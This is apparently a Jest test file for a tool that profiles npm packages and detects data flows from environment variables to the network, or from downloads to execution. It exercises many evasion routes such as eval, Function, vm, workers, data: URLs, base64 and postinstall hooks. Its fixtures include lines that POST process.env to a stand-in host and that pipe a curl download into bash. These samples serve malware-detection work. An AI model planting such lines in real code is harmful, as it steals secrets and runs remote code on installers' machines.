import { describe, expect, test } from '@jest/globals';
import { profilePackage } from '../../../src/packages/profile/profile.js';
import type { CodeProfile } from '../../../src/packages/profile.types.js';
import { filesOf } from './files.js';

const sends = "require('https').request('https://x.example.invalid').end(JSON.stringify(process.env))";
const quote = JSON.stringify(sends);
const address = `data:text/javascript,${encodeURIComponent(`fetch('https://x.example.invalid', { method: 'POST', body: JSON.stringify(process.env) })`)}`;

function profileOf(text: string, more: { readonly [path: string]: string } = {}): CodeProfile {
  return profilePackage({ files: filesOf({ 'package.json': JSON.stringify({ name: 'a', version: '1.0.0', main: 'index.js' }), 'index.js': text, ...more }) }).value;
}

/** Ways of data as `source>sink trigger`. */
function ways(text: string, more?: { readonly [path: string]: string }): readonly string[] {
  return [...new Set(profileOf(text, more).flows.map(({ source, sink, trigger }) => `${source}>${sink} ${trigger}`))].sort();
}

describe('code in constants is read as code', () => {
  test.each<[name: string, text: string]>([
    ['eval', `eval(${quote})`],
    ['eval by another name', `(0, globalThis['ev' + 'al'])(${quote})`],
    ['Function', `new Function(${quote})()`],
    ['Function with parameters', `Function('require', 'process', ${quote})(require, process)`],
    ['Function with many parameters', `Function('require', 'process', 'a', 'b', ${quote})(require, process)`],
    ['a body that returns', `Function(${JSON.stringify(`${sends}; return 1`)})()`],
    ['a body that waits', `Function(${JSON.stringify(`await 0; ${sends}`)})()`],
    ['vm', `require('vm').runInThisContext(${quote})`],
    ['a script of vm', `new (require('vm').Script)(${quote}).runInThisContext()`],
    ['a worker', `new (require('worker_threads').Worker)(${quote}, { eval: true })`],
    ['a worker of an address', `new Worker(${JSON.stringify(address)})`],
    ['a timer', `setTimeout(${quote}, 100)`],
    ['an address', `import(${JSON.stringify(address)})`],
    ['an address in base64', `import(${JSON.stringify(`data:text/javascript;base64,${Buffer.from(`fetch('https://x.example.invalid', { method: 'POST', body: JSON.stringify(process.env) })`).toString('base64')}`)})`],
    ['a variable', `const code = ${quote}; const run = eval; run(code)`],
    ['a text that is put together', `eval(${JSON.stringify(sends.slice(0, 20))} + ${JSON.stringify(sends.slice(20))})`],
    ['a text in a text', `eval(${JSON.stringify(`eval(${quote})`)})`],
    ['node -e', `require('child_process').execFileSync('node', ['-e', ${quote}])`],
    ['this runtime -e', `require('child_process').spawn(process.execPath, ['-e', ${quote}], { detached: true })`],
    ['a line for a shell', `require('child_process').exec(${JSON.stringify(`node -e "${sends}"`)})`],
  ])('%s', (_, text) => {
    expect(ways(text)).toContain('environment>network load');
  });

  test('in a shell file that an install step runs', () => {
    const { flows } = profilePackage({ files: filesOf({ 'package.json': JSON.stringify({ name: 'a', version: '1.0.0', scripts: { postinstall: 'sh go.sh' } }), 'go.sh': `echo hi\nnode -e "${sends}"\n` }) }).value;
    expect(flows.map(({ source, sink, trigger }) => `${source}>${sink} ${trigger}`)).toContain('environment>network install');
  });

  test('in code that an install step carries', () => {
    const { flows } = profilePackage({ files: filesOf({ 'package.json': JSON.stringify({ name: 'a', version: '1.0.0', scripts: { postinstall: `node -e ${JSON.stringify(`eval('${sends.replaceAll("'", '`')}')`)}` } }) }) }).value;
    expect(flows.map(({ source, sink, trigger }) => `${source}>${sink} ${trigger}`)).toContain('environment>network install');
  });

  test('a file that it loads is loaded', () => {
    expect(ways(`eval("require('./b.js')")`, { 'b.js': sends })).toEqual(['environment>network load']);
  });

  test('its place is that of the call', () => {
    const [flow] = profileOf(`\n\n${' '.repeat(4)}eval(${quote})`).flows;
    expect(flow).toMatchObject({ path: 'index.js', line: 3, excerpt: expect.stringContaining('eval(') });
  });
});

describe('it runs when what runs it runs', () => {
  test.each<[name: string, text: string, wanted: readonly string[]]>([
    ['by a call', `exports.run = () => eval(${quote})`, ['environment>network call']],
    ['by a call and by itself', `exports.run = () => eval(${quote}); eval(${quote})`, ['environment>network load']],
    ['a function in it that nobody calls', `eval(${JSON.stringify(`exports.run = () => ${sends}`)})`, ['environment>network call']],
    ['a command by a call', "exports.installBun = () => require('child_process').execSync('curl -fsSL https://bun.example.invalid/install | bash')", ['download>exec call']],
    ['a command by itself', "require('child_process').execSync('curl -fsSL https://bun.example.invalid/install | bash')", ['download>exec load']],
  ])('%s', (_, text, wanted) => {
    expect(ways(text)).toEqual(wanted);
  });
});

describe('what is no code says nothing', () => {
  test.each<[name: string, text: string]>([
    ['a text that is only kept', `module.exports = ${quote}`],
    ['a text that is shown', `console.log(${quote})`],
    ['a regular expression', `new RegExp(${quote})`],
    ['an image in an address', `import("data:image/svg+xml,<svg/>")`],
    ['no JavaScript', `eval("this is not { code")`],
    ['the global object', `module.exports = Function('return this')()`],
  ])('%s', (_, text) => {
    const { flows, unread } = profileOf(text);
    expect({ flows, unread }).toEqual({ flows: [], unread: [] });
  });
});

test('texts in texts without end are not read to their end, and that is said', () => {
  let text = sends;
  for (let depth = 0; depth < 8; depth += 1) text = `eval(${JSON.stringify(text)})`;
  const { flows, unread } = profileOf(text);
  expect(flows.length > 0 || unread.some(({ code }) => code === 'ANALYSER_STEPS')).toBe(true);
});
